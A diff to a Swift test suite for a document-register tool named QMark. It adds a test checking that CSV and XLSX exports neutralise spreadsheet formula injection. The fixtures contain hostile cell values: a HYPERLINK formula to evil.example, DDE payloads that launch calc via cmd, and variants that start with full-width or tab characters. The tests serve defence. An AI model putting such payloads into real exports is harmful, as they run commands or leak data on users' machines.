@@ -27,6 +27,8 @@ import Testing
 
         let coverage = try #require(found["coverage"] as? [String: Any])
         #expect(coverage["crlf"] as? Bool == true)
+        #expect(coverage["bom"] as? Bool == true, "UTF-8 with a byte-order mark, so Excel on Chinese Windows reads Chinese")
+        #expect((found["register"] as? [String: Any])?["bom"] as? Bool == true)
         let rows = try #require(coverage["rows"] as? [[String]])
         #expect(rows.first == ["standard", "clause", "clause_title", "status", "justification", "document", "document_title",
                                "document_status", "revision", "effective", "owner"])
@@ -56,6 +58,88 @@ import Testing
 
         #expect(try fixture.page("register.html").contains("href=\"api/qmark.xlsx\""))
         #expect(try fixture.page("standards/iso9001-2015/index.html").contains("href=\"../../api/coverage.csv\""))
+    }
+
+    /// Titles, owners, approvers, clause titles and justifications that a spreadsheet would take
+    /// for formulas (CSV injection).
+    static let hostile = [
+        "site.yml": "title: T\nlanguage: en\nstandards: [iso9001-2015, csr-evil]\nexclusions:\n  8.3: \"@SUM(1+1) no design\"\n",
+        "standards/evil.yml": "id: csr-evil\ntitle: Evil\nclauses:\n  - {id: 1, title: \"=2+5\"}\n  - {id: 2, title: \"-2+3\"}\n"
+            + "  - {id: 3, title: \"\\t=1+1\"}\n",
+        "a.md": """
+            ---
+            id: QP-01
+            title: '=HYPERLINK("http://evil.example/?x","Quality")'
+            type: procedure
+            revision: A
+            status: approved
+            effective: 2026-01-01
+            owner: "+cmd|' /C calc'!A0"
+            approver: "@SUM(1+1)*cmd|' /C calc'!A0"
+            clauses:
+              iso9001-2015: [7.5]
+              csr-evil: [1, 2]
+            ---
+            Text.
+
+            """,
+        "b.md": doc("QP-02", title: "＝1+1 全角", clauses: "[8.5]"),
+    ]
+
+    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
+
+    /// Every CSV QMark writes opens as text in a spreadsheet: LibreOffice converts each to a
+    /// workbook and not one cell of it is a formula; the text stays readable behind a `'`.
+    @Test func noCSVCellIsAFormula() throws {
+        let soffice = try #require(["/usr/bin/soffice", "/usr/bin/libreoffice"].first { FileManager.default.isExecutableFile(atPath: $0) },
+                                   "LibreOffice is not installed (make test-deps installs libreoffice-calc-nogui)")
+        let fixture = try FixtureManual(Self.hostile)
+        let build = try fixture.run("build", "--templates", QMarkBinary.templates)
+        #expect(build.status == 0, "\(build.stderr)")
+        let report = try fixture.run("coverage", "--format", "csv", "--standard", "all")
+        #expect(report.status == 0, "\(report.stderr)")
+        #expect(report.stdout.hasPrefix("\u{FEFF}standard,clause,"))
+        let files = fixture.root.appendingPathComponent("csv")
+        try FileManager.default.createDirectory(at: files, withIntermediateDirectories: true)
+        try Data(report.stdout.utf8).write(to: files.appendingPathComponent("report.csv"))
+        for name in ["coverage.csv", "register.csv"] {
+            try FileManager.default.copyItem(at: fixture.site.appendingPathComponent("api/\(name)"), to: files.appendingPathComponent(name))
+        }
+        let names = ["report.csv", "coverage.csv", "register.csv"]
+        for name in names {
+            let bytes = try Data(contentsOf: files.appendingPathComponent(name))
+            #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]), "\(name): byte-order mark")
+            let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
+            // Fields as RFC 4180 reads them: no unquoted field and no quoted one starts a formula.
+            let fields = text.components(separatedBy: "\r\n").flatMap { $0.components(separatedBy: ",") }
+                .map { $0.hasPrefix("\"") ? String($0.dropFirst()) : $0 }
+            #expect(!fields.contains { $0.first.map(Self.formulaStarts.contains) == true }, "\(name)")
+        }
+        let register = try String(contentsOf: files.appendingPathComponent("register.csv"), encoding: .utf8)
+        #expect(register.contains("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"Quality\"\")\""), "readable behind a ': \(register)")
+        #expect(register.contains("'+cmd|' /C calc'!A0") && register.contains("'@SUM(1+1)*cmd|' /C calc'!A0") && register.contains("'＝1+1 全角"))
+
+        let profile = FileManager.default.temporaryDirectory.appendingPathComponent("qmark-lo-\(UUID().uuidString)")
+        defer { try? FileManager.default.removeItem(at: profile) }
+        let converted = try QMarkBinary.runTool(soffice, ["-env:UserInstallation=\(profile.absoluteString)", "--headless", "--norestore",
+                                                          "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", files.path]
+                                                         + names.map { files.appendingPathComponent($0).path }, in: fixture.root)
+        #expect(converted.status == 0, "\(converted.stderr)")
+        let books = names.map { files.appendingPathComponent($0.replacingOccurrences(of: ".csv", with: ".xlsx")).path }
+            + [fixture.site.appendingPathComponent("api/qmark.xlsx").path]
+        let script = QMarkBinary.packageRoot.appendingPathComponent("Tests/Fixtures/exports/formulas.py").path
+        let read = try QMarkBinary.runTool("/usr/bin/env", ["python3", script] + books, in: fixture.root)
+        #expect(read.status == 0, "\(read.stderr)")
+        let found = try #require(try JSONSerialization.jsonObject(with: Data(read.stdout.utf8)) as? [String: [String: [String]]])
+        #expect(found.count == 4, "LibreOffice converted every CSV file: \(converted.stdout) \(converted.stderr)")
+        for (book, cells) in found {
+            #expect(cells["formulas"] == [], "\(book): cells a spreadsheet evaluates")
+        }
+        let opened = try #require(found[books[2]]?["texts"])
+        #expect(opened.contains { $0.contains("=HYPERLINK(\"http://evil.example/?x\",\"Quality\")") }, "the title is still there to read")
+        let workbook = try #require(found[books[3]]?["texts"])
+        #expect(workbook.contains("=HYPERLINK(\"http://evil.example/?x\",\"Quality\")"), "the workbook stores the title as the plain string it is")
+        #expect(workbook.contains("+cmd|' /C calc'!A0"))
     }
 
     @Test func libreOfficeOpensTheWorkbook() throws {
